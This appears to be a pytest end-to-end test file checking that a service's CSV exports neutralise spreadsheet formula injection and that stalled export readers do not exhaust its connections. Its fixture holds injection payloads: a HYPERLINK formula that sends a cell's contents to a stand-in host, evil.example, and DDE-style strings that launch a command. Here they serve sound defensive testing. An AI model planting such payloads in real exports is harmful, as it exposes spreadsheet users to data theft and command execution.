"""Exports that cannot hurt: no formula runs from a CSV cell, no stalled reader holds the service."""

from __future__ import annotations

import asyncio
import csv
import io
import time

import httpx
import orjson
import pytest

from service.api.http.tabular import csv_cell
from tests.conftest import bearer
from tests.e2e.served import serve
from tests.e2e.stalled import load_ledger, stalled_get
from tests.factories import ce, qualified, sourced

pytestmark = pytest.mark.e2e

HOSTILE = {
    "account": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "industry": "+cmd|' /C calc'!A0",
    "eb": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rep": "-2+3+cmd|' /C calc'!A0",
    "title": "@A1",
    "other_rep": "+1+1",
}
"""Values a spreadsheet would run, all storable. A cell starting with TAB or CR can no longer be
stored (names and identifiers refuse control characters) but is still neutralised: a log written
by an earlier version may hold one (the unit cases below)."""


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("-7", "-7"),
        ("1000.00", "1000.00"),
        ("R-07", "R-07"),
        ("a=b", "a=b"),
        (None, ""),
        (-3, "-3"),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(raw: object, cell: str) -> None:
    assert csv_cell(raw) == cell


async def _hostile_deal(client: httpx.AsyncClient, token: str) -> None:
    lead = sourced("D-1", HOSTILE["rep"], "2026-01-12T10:00:00Z")
    lead["data"]["account"] = {"name": HOSTILE["account"], "industry": HOSTILE["industry"]}
    eb = ce(
        "deal.eb_committed",
        "D-1",
        "2026-01-16T10:00:00Z",
        {"rep_id": HOSTILE["rep"], "eb": {"name": HOSTILE["eb"], "title": HOSTILE["title"]}},
    )
    other = sourced("D-2", HOSTILE["other_rep"], "2026-01-14T10:00:00Z")
    events = [lead, qualified("D-1", HOSTILE["rep"], "2026-01-15T10:00:00Z"), eb, other]
    response = await client.post("/v1/events", json=events, headers=bearer(token))
    assert response.status_code == 201, response.text


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/v1/exports/deals", {}),
        ("/v1/exports/facts", {"period": "2026-Q1"}),
        ("/v1/scoreboard", {"period": "2026-Q1", "format": "csv"}),
    ],
)
async def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote(
    client: httpx.AsyncClient, tokens: dict[str, str], path: str, params: dict[str, str]
) -> None:
    await _hostile_deal(client, tokens["events:write"])
    response = await client.get(path, params=params, headers=bearer(tokens["read"]))
    assert response.status_code == 200, response.text
    cells = _cells(response.text)
    _assert_no_formula(cells)
    assert "'" + HOSTILE["rep"] in cells
    assert "'" + HOSTILE["other_rep"] in cells
    if path == "/v1/exports/deals":
        for name in ("account", "industry", "eb", "title"):
            assert "'" + HOSTILE[name] in cells
        assert "1000.00" in cells  # our own numbers stay numbers


@pytest.mark.parametrize(
    ("path", "params"),
    [("/v1/exports/deals", {"format": "jsonl"}), ("/v1/exports/facts", {"period": "2026-Q1"})],
)
async def test_json_lines_keep_the_raw_values(
    client: httpx.AsyncClient, tokens: dict[str, str], path: str, params: dict[str, str]
) -> None:
    await _hostile_deal(client, tokens["events:write"])
    response = await client.get(
        path, params={**params, "format": "jsonl"}, headers=bearer(tokens["read"])
    )
    assert response.status_code == 200, response.text
    rows = [orjson.loads(line) for line in response.text.splitlines()]
    reps = {row.get("owner_rep_id", row.get("rep_id")) for row in rows}
    assert reps == {HOSTILE["rep"], HOSTILE["other_rep"]}
    if path == "/v1/exports/deals":
        first = rows[0]
        assert (first["account_name"], first["eb_name"]) == (HOSTILE["account"], HOSTILE["eb"])


async def _timed_get(http: httpx.AsyncClient, path: str, **params: str) -> float:
    started = time.monotonic()
    response = await http.get(path, params=params)
    assert response.status_code == 200, response.text
    return time.monotonic() - started


@pytest.mark.slow
async def test_stalled_export_readers_starve_neither_reads_nor_the_projector(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a real server with a pool of 2 + 2 connections, at most 3 exports at once, and a
    # 3 s stall deadline, holding megabytes of events
    monkeypatch.setenv("FUNNEL_DB_POOL_SIZE", "2")
    monkeypatch.setenv("FUNNEL_MAX_CONCURRENT_EXPORTS", "3")
    monkeypatch.setenv("FUNNEL_EXPORT_STALL_SECONDS", "3")
    async with serve(database_url) as served:
        await load_ledger(served.base, served.admin_key, deals=4000)
        export = "/v1/audit/export?period=2026-Q1"
        async with (
            httpx.AsyncClient(base_url=served.base, timeout=60) as http,
            stalled_get(served.base, export, served.admin_key) as first,
            stalled_get(served.base, export, served.admin_key) as second,
            stalled_get(served.base, export, served.admin_key) as third,
            stalled_get(served.base, export, served.admin_key) as fourth,
            stalled_get(served.base, export, served.admin_key) as fifth,
        ):
            http.headers.update(bearer(served.admin_key))
            # When five clients ask for exports and stop reading
            statuses = [line.split()[1] for line in (first, second, third, fourth, fifth)]
            # Then three run and the others are told to come back later
            assert sorted(statuses) == ["200", "200", "200", "503", "503"], statuses
            # And while the three are stalled, a feed read and a strong read answer at once:
            # no export holds a connection while its client does not read
            assert await _timed_get(http, "/v1/events", after="0", limit="100") < 5
            lead = sourced("D-NEW", "R-01", "2026-01-20T10:00:00Z")
            appended = await http.post("/v1/events", json=[lead])
            assert appended.status_code == 201, appended.text
            assert await _timed_get(http, "/v1/funnel", consistency="strong") < 5
            ready = (await http.get("/readyz")).json()
            assert ready["projector"]["lag"] == 0, ready
            # And once the stall deadline has passed, the stalled exports are abandoned and a
            # new export is served in full
            deadline = time.monotonic() + 30
            while True:
                fresh = await http.get("/v1/exports/facts", params={"period": "2026-Q1"})
                if fresh.status_code == 200 or time.monotonic() > deadline:
                    break
                assert fresh.status_code == 503, fresh.text
                await asyncio.sleep(0.5)
            assert fresh.status_code == 200, fresh.text
            assert fresh.text.startswith("position,deal_id,kind")
